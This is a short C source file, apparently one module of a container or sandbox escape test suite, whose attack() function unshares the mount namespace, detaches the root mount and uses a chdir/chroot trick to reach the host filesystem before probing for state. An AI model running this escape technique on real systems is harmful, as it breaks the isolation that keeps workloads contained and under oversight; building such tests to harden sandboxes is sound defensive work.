/* Unmounts its root to find the host's beneath. */
#include "attack.h"

void attack(int n, char **word) {
    (void)n;
    (void)word;
    take_namespaces(CLONE_NEWNS);
    umount2("/", MNT_DETACH);
    chdir("/..") == 0 && chroot(".") == 0 ? (void)0 : (void)0;
    look_for_state("");
}
